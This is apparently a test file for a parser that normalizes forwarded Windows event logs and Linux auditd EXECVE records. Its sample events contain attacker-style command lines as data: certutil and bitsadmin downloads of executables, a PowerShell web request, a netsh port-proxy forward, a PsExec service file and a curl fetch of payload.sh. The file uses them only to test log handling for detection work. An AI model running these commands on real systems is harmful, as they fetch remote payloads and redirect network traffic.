/**
 * Forwarded Windows events in each accepted form, written by hand after the forwarders' documented
 * output: event XML (WEF / NXLog $raw_event), NXLog to_json() (EventData fields at the top level),
 * Winlogbeat (winlog.event_data), Key=Value, and Snare's tab-separated MSWinEventLog record with its
 * rendered message; and auditd EXECVE with quoted, hex-encoded and split arguments.
 */
import assert from 'node:assert/strict'
import { test } from 'node:test'
import fc from 'fast-check'
import { parseAuditdExecve } from './auditd.js'
import { keyValuePairs, parseWindowsEvent } from './windows.js'

test('event XML: Sysmon 13 PortProxy registry write with entities', () => {
  const xml =
    '<Event xmlns="http://schemas.microsoft.com/win/2004/08/events/event"><System><Provider Name="Microsoft-Windows-Sysmon" Guid="{5770385f-c22a-43e0-bf4c-06f5698ffbd9}" /><EventID>13</EventID><TimeCreated SystemTime="2019-05-23T17:46:04.7Z" /><Computer>IEWIN7</Computer></System><EventData><Data Name="EventType">SetValue</Data><Data Name="Image">C:\\Windows\\system32\\netsh.exe</Data><Data Name="TargetObject">HKLM\\System\\CurrentControlSet\\services\\PortProxy\\v4tov4\\tcp\\1.2.3.4/8001</Data><Data Name="Details">1.2.3.5/3389</Data><Data Name="User">IEWIN7\\IE&amp;User</Data></EventData></Event>'
  const h = parseWindowsEvent(xml, 'fallback')
  assert.ok(h)
  assert.equal(h.event_id, 'sysmon:13')
  assert.equal(h.action, 'registry')
  assert.equal(h.host, 'IEWIN7')
  assert.equal(h.user, 'IEWIN7\\IE&User')
  assert.equal(h.target_object, 'HKLM\\System\\CurrentControlSet\\services\\PortProxy\\v4tov4\\tcp\\1.2.3.4/8001')
  assert.equal(h.details, '1.2.3.5/3389')
  assert.equal(h.ts, Date.UTC(2019, 4, 23, 17, 46, 4, 700) / 1000)
})

test('NXLog to_json(): Sysmon 1 with EventData at the top level', () => {
  const json = JSON.stringify({
    EventTime: '2024-03-01 10:00:00',
    Hostname: 'ws01.corp.example',
    SourceName: 'Microsoft-Windows-Sysmon',
    Channel: 'Microsoft-Windows-Sysmon/Operational',
    EventID: 1,
    Image: 'C:\\Windows\\System32\\certutil.exe',
    CommandLine: 'certutil -urlcache -split -f http://203.0.113.9/a.exe a.exe',
    ParentImage: 'C:\\Windows\\System32\\cmd.exe',
    User: 'CORP\\alice',
  })
  const h = parseWindowsEvent(json, 'relay')
  assert.ok(h)
  assert.equal(h.event_id, 'sysmon:1')
  assert.equal(h.action, 'process')
  assert.equal(h.host, 'ws01.corp.example')
  assert.equal(h.image, 'C:\\Windows\\System32\\certutil.exe')
  assert.equal(h.parent_image, 'C:\\Windows\\System32\\cmd.exe')
  assert.equal(h.user, 'CORP\\alice')
  assert.match(h.command_line ?? '', /-urlcache/)
})

test('Winlogbeat JSON: Sysmon 3 network connection', () => {
  const json = JSON.stringify({
    '@timestamp': '2024-03-01T10:00:00.000Z',
    host: { name: 'ws02' },
    winlog: {
      event_id: '3',
      provider_name: 'Microsoft-Windows-Sysmon',
      computer_name: 'ws02.corp.example',
      event_data: {
        Image: 'C:\\Windows\\System32\\finger.exe',
        DestinationIp: '198.51.100.80',
        DestinationPort: '79',
        User: 'CORP\\bob',
      },
    },
  })
  const h = parseWindowsEvent(`ws02 winlogbeat: ${json}`, undefined)
  assert.ok(h)
  assert.equal(h.event_id, 'sysmon:3')
  assert.equal(h.action, 'network')
  assert.equal(h.host, 'ws02.corp.example')
  assert.equal(h.dest_ip, '198.51.100.80')
  assert.equal(h.dest_port, 79)
})

test('Key=Value: Security 4688 with quoted and unquoted values', () => {
  const kv =
    'EventID=4688 Computer=fs01.corp.example SourceName="Microsoft-Windows-Security-Auditing" SubjectUserName=admin SubjectDomainName=CORP NewProcessName=C:\\Windows\\System32\\netsh.exe CommandLine="netsh interface portproxy add v4tov4 listenport=445 connectaddress=203.0.113.5 connectport=445" ParentProcessName=C:\\Windows\\System32\\cmd.exe'
  const h = parseWindowsEvent(kv, undefined)
  assert.ok(h)
  assert.equal(h.event_id, 'security:4688')
  assert.equal(h.user, 'CORP\\admin')
  assert.equal(h.image, 'C:\\Windows\\System32\\netsh.exe')
  assert.equal(
    h.command_line,
    'netsh interface portproxy add v4tov4 listenport=445 connectaddress=203.0.113.5 connectport=445',
  )
})

test('Snare MSWinEventLog tab record with rendered 4688 message', () => {
  const snare = [
    'MSWinEventLog',
    '1',
    'Security',
    '57',
    'Mon Mar 04 10:00:00 2024',
    '4688',
    'Microsoft-Windows-Security-Auditing',
    'CORP\\carol',
    'N/A',
    'Success Audit',
    'ws03.corp.example',
    'Process Creation',
    '',
    'A new process has been created.  Creator Subject:  Security ID: S-1-5-21-1  Account Name: carol  Account Domain: CORP  Process Information:  New Process ID: 0x1e00  New Process Name: C:\\Windows\\System32\\bitsadmin.exe  Token Elevation Type: %%1937  Creator Process Name: C:\\Windows\\System32\\cmd.exe  Process Command Line: bitsadmin /transfer j http://198.51.100.9/x.exe C:\\x.exe',
    '12',
  ].join('\t')
  const h = parseWindowsEvent(snare, 'ws03')
  assert.ok(h)
  assert.equal(h.event_id, 'security:4688')
  assert.equal(h.host, 'ws03.corp.example')
  assert.equal(h.image, 'C:\\Windows\\System32\\bitsadmin.exe')
  assert.equal(h.parent_image, 'C:\\Windows\\System32\\cmd.exe')
  assert.equal(h.command_line, 'bitsadmin /transfer j http://198.51.100.9/x.exe C:\\x.exe')
})

test('PowerShell 4104 script block, BITS 16403, Sysmon 11 file create', () => {
  const x = (prov: string, id: number, data: string) =>
    `<Event><System><Provider Name="${prov}" /><EventID>${id}</EventID><Computer>h1</Computer></System><EventData>${data}</EventData></Event>`
  const ps = parseWindowsEvent(
    x('Microsoft-Windows-PowerShell', 4104, '<Data Name="ScriptBlockText">iwr http://x/y</Data>'),
    undefined,
  )
  assert.equal(ps?.action, 'script')
  assert.equal(ps?.command_line, 'iwr http://x/y')
  const bits = parseWindowsEvent(
    x(
      'Microsoft-Windows-Bits-Client',
      16403,
      '<Data Name="RemoteName">https://transfer.sh/a.exe</Data><Data Name="LocalName">C:\\a.exe</Data>',
    ),
    undefined,
  )
  assert.equal(bits?.event_id, 'bits:16403')
  assert.equal(bits?.details, 'https://transfer.sh/a.exe')
  assert.equal(bits?.target_filename, 'C:\\a.exe')
  const fc11 = parseWindowsEvent(
    x(
      'Microsoft-Windows-Sysmon',
      11,
      '<Data Name="Image">System</Data><Data Name="TargetFilename">C:\\Windows\\PSEXESVC.exe</Data>',
    ),
    undefined,
  )
  assert.equal(fc11?.action, 'file-create')
  assert.equal(fc11?.target_filename, 'C:\\Windows\\PSEXESVC.exe')
})

test('not a Windows event → undefined; fuzz never throws', () => {
  assert.equal(parseWindowsEvent('plain text message', 'h'), undefined)
  assert.equal(parseWindowsEvent('EventID=abc x=1', 'h'), undefined)
  fc.assert(
    fc.property(fc.string({ maxLength: 300 }), (s) => {
      parseWindowsEvent(`EventID=1 ${s}`, 'h')
      parseWindowsEvent(`<Event><EventID>1</EventID>${s}`, 'h')
      parseWindowsEvent(`{"EventID":1,${s}`, 'h')
      parseWindowsEvent(`MSWinEventLog\t${s}`, 'h')
    }),
    { numRuns: 500 },
  )
})

test('auditd EXECVE: quoted, hex-encoded and split arguments', () => {
  // "-o" quoted; "/tmp/x y" contains a space so auditd hex-encodes it; a3 split in two parts.
  const hex = Buffer.from('/tmp/x y').toString('hex').toUpperCase()
  const url = 'http://198.51.100.7/payload.sh'
  const p1 = Buffer.from(url.slice(0, 10)).toString('hex')
  const p2 = Buffer.from(url.slice(10)).toString('hex')
  const m = `node=web01 type=EXECVE msg=audit(1700000000.123:456): argc=4 a0="curl" a1="-o" a2=${hex} a3_len=${url.length * 2} a3[0]=${p1} a3[1]=${p2}`
  const h = parseAuditdExecve(m, 'relay')
  assert.ok(h)
  assert.equal(h.host, 'web01')
  assert.equal(h.event_id, 'auditd:execve')
  assert.equal(h.image, 'curl')
  assert.equal(h.command_line, `curl -o /tmp/x y ${url}`)
  assert.equal(h.ts, 1700000000.123)
  assert.equal(parseAuditdExecve('type=SYSCALL msg=audit(1:2): arch=c000003e', 'h'), undefined)
})

test('Key=Value scanner gives what the pair regex gives, on random and tricky text', () => {
  // The reference: the pair grammar as one global regex (the parser's original implementation).
  const reference = (m: string) => {
    const re =
      /(?:^|[\s,;])([A-Za-z_][A-Za-z0-9_.]{0,63})=(?:"((?:[^"\\]|\\.)*)"|'([^']*)'|(.*?))(?=\s+[A-Za-z_][A-Za-z0-9_.]{0,63}=|$)/g
    const out: { key: string; value: string; quote: string }[] = []
    let n = 0
    for (let x = re.exec(m); x !== null && n < 512; x = re.exec(m), n++) {
      const quote = x[2] !== undefined ? '"' : x[3] !== undefined ? "'" : ''
      out.push({ key: x[1] ?? '', value: x[2] ?? x[3] ?? x[4] ?? '', quote })
    }
    return out
  }
  const piece = fc.oneof(
    fc.constantFrom(
      '=',
      '"',
      "'",
      '\\',
      ' ',
      '\t',
      '\n',
      '\r',
      ',',
      ';',
      '.',
      '\u00a0',
      '\u2028',
      'EventID',
      'a',
      '_',
      '9',
    ),
    fc.constantFrom(' CommandLine="x y"', " k='v w'", ' Image=C:\\Windows\\a.exe', '"a"b', 'x=1,y=2'),
    fc.string({ maxLength: 5 }),
    fc.stringMatching(/^[A-Za-z0-9_.]{60,70}$/),
  )
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 30 }), (parts) => {
      const m = parts.join('')
      assert.deepEqual(keyValuePairs(m), reference(m))
    }),
    { numRuns: 3000 },
  )
  for (const m of [
    'EventID=1 SourceName=Microsoft-Windows-Sysmon Image=C:\\Windows\\explorer.exe CommandLine="C:\\Windows\\explorer.exe /factory,{x}"',
    'a="x"y b=1',
    "a='x'y b=2",
    'a="x\\"y" b="unterminated c=3',
    'a=b\nc=d\re=f',
    `${'k'.repeat(70)}=1 ${'k'.repeat(64)}=2 x=  `,
    '=a ,b=1;c=2 d.e=3 4f=4',
  ]) {
    assert.deepEqual(keyValuePairs(m), reference(m), JSON.stringify(m))
  }
})
